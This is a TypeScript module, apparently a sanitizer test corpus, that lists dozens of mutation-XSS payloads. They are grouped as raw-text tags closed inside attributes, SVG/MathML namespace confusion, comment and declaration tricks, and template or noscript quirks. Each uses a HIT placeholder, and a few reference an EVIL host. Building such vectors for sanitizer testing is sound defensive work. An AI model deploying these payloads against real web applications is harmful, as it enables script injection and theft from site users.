import { type Vector, vectorsOf } from './vectors.ts';

const run = '<img src=x onerror=HIT>';
const hidden = `"--><!--]]>${run}`;

/** Elements whose content is text to one parser and markup to another; the closing tag is in an attribute or a comment. */
const rawTexts = [
  'noscript',
  'noembed',
  'noframes',
  'style',
  'title',
  'textarea',
  'xmp',
  'iframe',
  'plaintext',
  'script',
];
const closedInAttribute = rawTexts.flatMap((name) => [
  `<${name}><p title="</${name}>${run}">`,
  `<svg><${name}><p title="</${name}>${run}"></svg>`,
  `<math><mtext><${name}><p title="</${name}>${run}"></math>`,
]);

/** The same bytes are SVG or MathML in the first parse and HTML in the second. */
const namespaces = [
  `<svg></p><style><a id="</style>${run}">`,
  `<svg><p><style><a id="</style>${run}"></p></svg>`,
  `<math><mi><table><mglyph><style><!--</style><a title="--&gt;&lt;img src=x onerror=HIT&gt;">`,
  `<math><mtext><table><malignmark><style><!--</style>${run}-->`,
  `<form><math><mtext></form><form><mglyph><style></math>${run}`,
  `<form><svg><desc></form><form><title><style></svg>${run}`,
  `<math><annotation-xml encoding="text/html"><style>${run}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg onload=HIT></annotation-xml></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=HIT>">`,
  `<svg><title><template><style></template></title>${run}`,
  `<svg><desc><noscript><style></noscript></desc>${run}</style>`,
  `<math><svg><mtext><style>${run}</style></mtext></svg></math>`,
  `<select><svg><style><a title="</style></select>${run}">`,
  `<select><template><math></select>${run}`,
  `<select><option><style></option></select><b>${run}</style>`,
  `<table><svg><tr><td><style></table>${run}`,
  `<table><caption><svg><td><style><!--</style>${run}-->`,
  `<b><table><a href=x><svg><tr><style></b>${run}`,
  `<a><table><a>${run}</a><tr><td><a href=javascript:HIT>x`,
  `<ol><li><table><ol><li><svg><style></ol>${run}`,
  `<h1><h2><svg><h3><style><img title="</style>${run}">`,
  `<svg><font color=x><style></svg>${run}`,
  `<svg><![CDATA[><image xlink:href="]]>${run}//"></svg>`,
  `<svg><style>&lt;/style&gt;${run}</style></svg>`,
  `<math><style>${run}</style></math>`,
  `<svg xmlns="http://www.w3.org/1999/xhtml">${run}</svg>`,
  `<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>HIT</svg:script></svg:svg>`,
  `<x xmlns="http://www.w3.org/2000/svg" onload=HIT><a xlink:href="javascript:HIT">x</a></x>`,
  `<svg><set attributeName="onload" to="HIT"/><animate attributeName="onclick" values="HIT" begin="0s"/></svg>`,
  `<svg><animate onbegin=HIT attributeName=x dur=1s><discard onend=HIT></svg>`,
  `<svg><handler type="text/ecmascript" ev:event="load">HIT</handler><listener event="load" handler="#x"/></svg>`,
  `<svg><filter><feImage href="data:image/svg+xml,<svg onload=HIT>"/></filter><style>*{filter:url(//EVIL/)}</style></svg>`,
];

/** Markup that is not an element. */
const comments = [
  `<!--><img src=x onerror=HIT>-->`,
  `<!---><img src=x onerror=HIT>-->`,
  `<!-- --!><img src=x onerror=HIT> -->`,
  `<!--<!--><img src=x onerror=HIT>-->`,
  `<!-${run}->`,
  `<!x ">${run}">`,
  `<?xml version="1.0"?>${run}`,
  `<?xml-stylesheet href="javascript:HIT"?><x/>`,
  `<?x ${hidden}?>`,
  `</ ${hidden}>`,
  `<![CDATA[${run}]]>`,
  `<!DOCTYPE x [<!ENTITY y "${run}"><!ENTITY z SYSTEM "http://EVIL/">]><p>&y;&z;</p>`,
  `<!--[if gte IE 4]>${run}<![endif]-->`,
  `<comment><img src="</comment>${run}">`,
  `<p title="x${run}`,
  `<p title='x${hidden}`,
  `<p ${hidden}`,
];

/** Inert content, and elements that become something else. */
const aside = [
  `<template>${run}<script>HIT</script></template>`,
  `<template><s><template><s>${run}</s></template></s></template>`,
  `<div><template shadowrootmode="open">${run}<script>HIT</script></template></div>`,
  `<div><template shadowroot="open"><style>:host{position:fixed;inset:0}</style></template></div>`,
  `<noscript><!--</noscript>${run}--></noscript>`,
  `<noscript><style></noscript>${run}</style></noscript>`,
  `<b><noscript><a alt="</noscript>${run}"></noscript>`,
  `<style><style/>${run}</style>`,
  `<style><!--</style>${run}--></style>`,
  `<option><style></option>${run}</style>`,
  `<x-frame onfocus=HIT tabindex=1 autofocus is="x-y">x</x-frame>`,
  `<p is="x-p" slot="x" part="y" onclick=HIT>x</p>`,
  `<annotation-xml><font-face onload=HIT></font-face></annotation-xml>`,
  `<details><summary onclick=HIT>x</summary>${run}</details>`,
  `<selectedcontent>${run}</selectedcontent><select><button><selectedcontent></select>`,
  `<search>${run}</search><menu type="context"><menuitem onclick=HIT></menu>`,
  `<object>${run}<param name=x></object><video>${run}</video><canvas>${run}</canvas>`,
  `<ruby><rt>${run}</rt><rp><script>HIT</script></rp></ruby>`,
  `<nobr><nobr>${run}<nobr><a href=javascript:HIT>x`,
  `<body onload=HIT><html onclick=HIT><head profile="javascript:HIT">x`,
];

export const breakouts: readonly Vector[] = [
  ...vectorsOf('closed in an attribute', closedInAttribute),
  ...vectorsOf('confused namespace', namespaces),
  ...vectorsOf('comment or declaration', comments),
  ...vectorsOf('kept aside', aside),
];
